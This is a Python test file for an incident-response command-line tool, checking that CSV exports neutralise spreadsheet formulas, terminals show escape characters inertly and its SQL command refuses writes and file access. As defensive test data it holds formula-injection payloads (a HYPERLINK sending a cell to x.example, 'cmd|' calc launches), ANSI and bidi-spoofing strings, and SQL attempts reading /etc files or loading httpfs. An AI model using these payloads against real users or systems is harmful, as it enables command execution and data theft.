"""Output safety: log text an attacker wrote must not act on the responder's tools.

CSV cells a spreadsheet would evaluate are neutralised in every CSV export (opt
out with --raw where raw data makes sense), a CR inside a cell cannot forge a
row, terminal output shows control characters instead of obeying them, and
`ir sql` reads the case and nothing else.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from ir import render
from ir.cli import app
from tests import vendor_records as v

KEY = "AKIAOUTPUTSAFETY0001"
HOSTILE = {
    '=HYPERLINK("http://x.example/?"&A1,"open")': "'=HYPERLINK(",
    "+cmd|' /C calc'!A0": "'+cmd|",
    "-2+3+cmd|' /C calc'!A0": "'-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
}
ANSI = "curl/8 \x1b[2J\x1b[31mALL CLEAR\x1b[0m \u202egpj.exe"
runner = CliRunner()


def run(*args: str) -> tuple[int, str, str]:
    result = runner.invoke(app, list(args))
    return result.exit_code, result.stdout, result.stderr


@pytest.fixture
def case(tmp_path: Path) -> str:
    agents = [*HOSTILE, ANSI, "ua\r2026-01-01,forged,row"]
    records = [
        {**v.cloudtrail(f"e{n}", f"2026-09-01T00:0{n}:00Z", "GetObject", KEY), "userAgent": ua}
        for n, ua in enumerate(agents)
    ]
    v.write_cloudtrail(tmp_path / "logs" / "ct.json", records)
    path = str(tmp_path / "c.duckdb")
    assert run("ingest", str(tmp_path / "logs"), "--case", path)[0] == 0
    return path


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_trace_csv_neutralises_every_formula_start_and_cannot_be_forged(case: str) -> None:
    status, out, _ = run("trace", KEY, "--case", case, "-f", "csv")
    rows = csv_rows(out)
    assert status == 0 and len(rows) == len(HOSTILE) + 2  # the CR did not add a row
    agents = [row["user_agent"] for row in rows]
    for value, shown in HOSTILE.items():
        assert any(a.startswith(shown) and a[1:] == value for a in agents), value
    assert "ua\r2026-01-01,forged,row" in agents
    assert not any(a.startswith(render.FORMULA_STARTS) for a in agents)


def test_sql_csv_neutralises_text_not_numbers_and_raw_keeps_it(case: str) -> None:
    query = "SELECT user_agent, -1 AS n, '-1' AS s FROM events WHERE user_agent LIKE '=%'"
    status, out, _ = run("sql", query, "--case", case, "-f", "csv")
    (row,) = csv_rows(out)
    assert status == 0 and row["user_agent"].startswith("'=HYPERLINK")
    assert (row["n"], row["s"]) == ("-1", "'-1")
    status, out, _ = run("sql", query, "--case", case, "-f", "csv", "--raw")
    (row,) = csv_rows(out)
    assert row["user_agent"].startswith("=HYPERLINK") and row["s"] == "-1"
    status, out, _ = run("sql", query, "--case", case, "-f", "json")
    assert json.loads(out)[0]["user_agent"].startswith("=HYPERLINK")  # JSON is data, as is


def test_tables_show_control_characters_instead_of_obeying_them(case: str) -> None:
    status, out, _ = run("trace", KEY, "--case", case)
    assert status == 0
    assert "\x1b" not in out and "\u202e" not in out and "\r" not in out
    assert "\\x1b[2J\\x1b[31mALL CLEAR" in out and "\\u202egpj.exe" in out


def test_error_lines_show_control_characters_in_file_names(tmp_path: Path) -> None:
    logs = tmp_path / "logs"
    logs.mkdir()
    (logs / "notes\x1b[2J.txt").write_text("not a log\n")
    status, _, err = run("ingest", str(logs), "--case", str(tmp_path / "c.duckdb"))
    assert status == 1 and "\x1b" not in err and "notes\\x1b[2J.txt" in err


def test_printable_escapes_controls_and_bidi_and_keeps_the_rest() -> None:
    assert render.printable("a\x1b[2Jb\x07\x00\r\n\t\x9b\u202e\u2066é😀") == (
        "a\\x1b[2Jb\\x07\\x00\\r\\n\\t\\x9b\\u202e\\u2066é😀"
    )


ATTEMPTS = [
    "DELETE FROM events",
    "INSERT INTO rejects VALUES (1, 1, 'x', 'y')",
    "COPY (SELECT 1) TO '{out}/copy.csv'",
    "SELECT 1; COPY (SELECT 1) TO '{out}/copy.csv'",
    "EXPORT DATABASE '{out}/export'",
    "ATTACH '{out}/other.duckdb' AS other",
    "SELECT * FROM read_text('/etc/hostname')",
    "SELECT * FROM read_csv('/etc/hostname')",
    "SELECT * FROM glob('/etc/*')",
    "INSTALL httpfs",
    "LOAD httpfs",
    "SET enable_external_access = true",
    "SET lock_configuration = false",
    "SET threads = 1",
]


@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_sql_refuses_writes_and_anything_outside_the_case(
    attempt: str, case: str, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    out.mkdir()
    status, stdout, err = run("sql", attempt.format(out=out), "--case", case)
    assert status == 1 and stdout == "" and err.startswith("error: query failed: "), err
    assert len(err.strip().splitlines()) == 1
    assert list(out.iterdir()) == []
    assert run("sql", "SELECT count(*) AS n FROM events", "--case", case, "-f", "json")[1]
